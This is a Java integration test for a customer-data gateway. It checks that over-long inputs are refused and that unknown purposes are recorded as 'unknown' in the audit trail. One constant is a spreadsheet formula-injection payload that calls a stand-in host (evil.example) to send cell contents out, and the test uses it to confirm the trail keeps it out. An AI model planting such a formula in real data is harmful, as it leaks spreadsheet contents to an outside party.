package io.customerdata.gateway;

import java.time.Duration;

import io.customerdata.gateway.security.AuditBounds;
import io.customerdata.gateway.testing.LocalIssuer;
import io.customerdata.gateway.testing.LoopbackClient;
import io.customerdata.gateway.testing.Servers;
import io.customerdata.gateway.testing.StubDepartment;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;

import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.http.MediaType;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;
import org.springframework.test.web.reactive.server.WebTestClient;

import static io.customerdata.gateway.testing.JsonResponses.json;
import static io.customerdata.gateway.testing.JsonResponses.ok;
import static io.customerdata.gateway.testing.Problems.assertProblem;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * What a caller sends reaches the audit trail bounded: a purpose, reference or text
 * longer than the trail records is refused at the edge ({@code value-too-long}), a
 * purpose the policy does not know is recorded as {@code unknown}, and the trail goes on.
 * Before, one lookup with a 101-character purpose made an event the database refused,
 * which the writer took for an outage: every later event went to the spool, out of the
 * officers' search.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT, properties = "management.server.port=0")
class RecordedValueBoundsTests {

	static final LocalIssuer issuer = Servers.start(LocalIssuer::new);

	static final StubDepartment crm = Servers.start(StubDepartment::new);

	static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";

	@LocalServerPort
	int port;

	@DynamicPropertySource
	static void properties(DynamicPropertyRegistry registry) {
		registry.add("gateway.security.issuer-uri", issuer::issuer);
		registry.add("gateway.federation.sources.crm.base-url", crm::baseUrl);
	}

	@AfterAll
	static void stop() {
		issuer.close();
		crm.close();
	}

	@Test
	void aLookupWithAPurposeLongerThanTheTrailRecordsIsRefusedAndTheTrailGoesOn() {
		String mallory = issuer.token("mallory", "sales-rep", "sales", "EMEA");

		assertProblem(client().get()
			.uri("/api/v1/customers/crm:ACC-1")
			.headers((h) -> h.setBearerAuth(mallory))
			.header("X-Purpose", "p".repeat(AuditBounds.PURPOSE + 1))
			.exchange(), 400, "value-too-long").jsonPath("$.max_length").isEqualTo(AuditBounds.PURPOSE);
		assertProblem(client().get()
			.uri("/api/v1/departments/crm/accounts/ACC-1")
			.headers((h) -> h.setBearerAuth(mallory))
			.header("X-Purpose", "p".repeat(60), "q".repeat(60))
			.exchange(), 400, "value-too-long");
		client().get()
			.uri("/api/v1/departments/crm/accounts/ACC-1")
			.headers((h) -> h.setBearerAuth(mallory))
			.exchange()
			.expectStatus()
			.isOk();

		// In the database at once, not in the spool: the officers' search finds it.
		assertThat(audit("subject=mallory").path("items")).hasSize(1);
	}

	@Test
	void aPurposeThePolicyDoesNotKnowIsRecordedAsUnknownNeverAsSent() {
		String eve = issuer.token("eve", "sales-rep", "sales", "EMEA");

		assertProblem(client().get()
			.uri("/api/v1/customers/crm:ACC-1")
			.headers((h) -> h.setBearerAuth(eve))
			.header("X-Purpose", FORMULA)
			.exchange(), 400, "unknown-purpose");

		JsonNode events = audit("subject=eve").path("items");
		assertThat(events).hasSize(1);
		assertThat(events.get(0).path("purpose").asString()).isEqualTo("unknown");
		assertThat(events.toString()).doesNotContain("HYPERLINK");
	}

	@Test
	void referencesAndSearchesLongerThanTheTrailRecordsAreRefused() {
		String alice = issuer.token("alice", "sales-rep", "sales", "EMEA");
		String tooLong = "crm:" + "1".repeat(AuditBounds.REFERENCE - 3);

		assertProblem(get("/api/v1/customers/" + tooLong, alice), 400, "value-too-long");
		assertProblem(get("/api/v1/customers?email=" + "a".repeat(AuditBounds.REFERENCE) + "@x.example", alice), 400,
				"value-too-long");
		assertProblem(get("/api/v1/customers?phone=" + "1".repeat(AuditBounds.REFERENCE + 1), alice), 400,
				"value-too-long");
		assertProblem(get("/api/v1/customers?q=" + "h".repeat(AuditBounds.SEARCH_TEXT + 1), alice), 400,
				"value-too-long");
	}

	@Test
	void accessRequestsAndCommentsLongerThanTheTrailRecordsAreRefused() {
		String carol = issuer.token("carol", "support-agent", "support", "EMEA");
		String sam = issuer.token("sam", "security-officer", "security", "EMEA");
		String request = """
				{"fields": ["crm:sales.deals[].amount"], "purpose": "support-case", "duration": "P1D",
				 "justification": "%s", "customer": "%s"}""";

		assertProblem(file(carol, request.formatted("a disputed renewal", "crm:" + "1".repeat(AuditBounds.REFERENCE))),
				400, "value-too-long");
		assertProblem(file(carol, request.formatted("j".repeat(AuditBounds.FREE_TEXT + 1), "crm:ACC-1")), 400,
				"value-too-long");
		String id = json(file(carol, request.formatted("a disputed renewal", "crm:ACC-1")), 201).path("id").asString();
		assertProblem(client().post()
			.uri("/admin/access-requests/" + id + "/reject")
			.headers((h) -> h.setBearerAuth(sam))
			.contentType(MediaType.APPLICATION_JSON)
			.bodyValue("{\"comment\": \"" + "c".repeat(AuditBounds.FREE_TEXT + 1) + "\"}")
			.exchange(), 400, "value-too-long");
	}

	private WebTestClient.ResponseSpec file(String token, String body) {
		return client().post()
			.uri("/api/v1/access-requests")
			.headers((h) -> h.setBearerAuth(token))
			.contentType(MediaType.APPLICATION_JSON)
			.bodyValue(body)
			.exchange();
	}

	private WebTestClient.ResponseSpec get(String uri, String token) {
		return client().get().uri(uri).headers((h) -> h.setBearerAuth(token)).exchange();
	}

	private JsonNode audit(String query) {
		String sam = issuer.token("sam", "security-officer", "security", "EMEA");
		return ok(client().get().uri("/admin/audit?" + query).headers((h) -> h.setBearerAuth(sam)).exchange());
	}

	private WebTestClient client() {
		return LoopbackClient.on(this.port).mutate().responseTimeout(Duration.ofSeconds(10)).build();
	}

}
